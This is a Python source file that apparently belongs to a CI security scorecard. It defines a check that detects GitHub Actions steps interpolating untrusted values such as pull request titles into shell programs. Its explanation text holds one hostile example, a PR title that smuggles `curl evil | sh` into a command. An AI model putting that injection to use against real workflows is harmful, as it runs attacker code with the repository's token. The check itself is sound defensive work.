"""CI-06: what strangers write is data, never part of a program."""

from __future__ import annotations

from collections.abc import Iterator

from flagstone.scorecards.engine.checks.ci.sizes import NO_CI
from flagstone.scorecards.engine.ci.expressions import Injection, injections
from flagstone.scorecards.engine.ci.pipelines import Step
from flagstone.scorecards.engine.ci.repository import Ci
from flagstone.scorecards.engine.outcome import Fault, Findings, Outcome
from flagstone.scorecards.engine.registry import NoParams, check
from flagstone.scorecards.engine.services import ServiceView
from flagstone.scorecards.engine.states import Severity

_LONGEST = 100_000
_PROGRAMS = ("script", "inlinescript", "run", "command", "cmd")  # what actions run as it is


@check(
    id="CI-06",
    name="No program of a workflow is put together from what strangers write",
    severity=Severity.C,
    rule=f"In the steps of GitHub workflows the first {_LONGEST:,} characters of `run`, and of the options "
    f"{', '.join(_PROGRAMS)} of actions, hold no `${{{{ }}}}` whose value strangers write: titles, texts, messages, "
    "labels, names of branches and of authors, be it by way of `env` or `inputs`. What is only compared is no "
    "finding; what only people with write access choose, such as names of tags and inputs of a manual run, is "
    "a warning.",
    why="GitHub puts the value of `${{ }}` into the text before the shell reads it: a pull request with "
    'the title `"; curl evil | sh; "` runs what it likes, with the workflow\'s token.',
    remedy="Give the value to the step by `env:` and use the variable, in quotes: "
    '`env: {TITLE: "${{ github.event.pull_request.title }}"}`, then `echo "$TITLE"`.',
    not_applicable="No GitHub workflow is in view: GitLab hands values over as variables only.",
    no_data="A workflow cannot be read: mend it where the message says.",
)
def trusted(service: ServiceView, params: NoParams) -> Outcome:
    return service.ci.once("CI-06", params, _trusted)


def _trusted(ci: Ci) -> Outcome:
    found = Findings()
    for pipeline in ci.read(ci.github, found):
        for job in pipeline.jobs:
            for step in job.steps:
                _judge(step, found)
    found.faults = list(dict.fromkeys(found.faults))
    found.close = list(dict.fromkeys(found.close))
    nothing = "no GitHub workflow is in view" if ci.pipelines else NO_CI
    return found.verdict("what strangers write is in no program", nothing=nothing)


def _judge(step: Step, found: Findings) -> None:
    for program, keys in _programs(step):
        for injection in injections(program[:_LONGEST], step.env, step.inputs):
            message = f"{_name(injection)} is put into the program as it is: use env"
            fault = _at(step, message, program, injection, keys)
            (found.close if injection.by_writers else found.faults).append(fault)


def _programs(step: Step) -> Iterator[tuple[str, tuple[str, ...]]]:
    if step.run:
        yield step.run, ("run",)
    for name, text in step.options.items():
        if step.uses and name.lower() in _PROGRAMS:
            yield text, ("with", name)


def _name(injection: Injection) -> str:
    through = f", by way of {injection.through}," if injection.through else ""
    return f"{injection.value}{through}"


def _at(
    step: Step, message: str, program: str, injection: Injection, keys: tuple[str, ...]
) -> Fault:
    """The fault on its own line: the text of a block begins on the line below its key."""
    line = step.file.line(*step.keys, *keys)
    if line is not None and "\n" in program:
        line += 1 + program.count("\n", 0, injection.offset)
    return Fault(message, path=step.file.path, line=line)
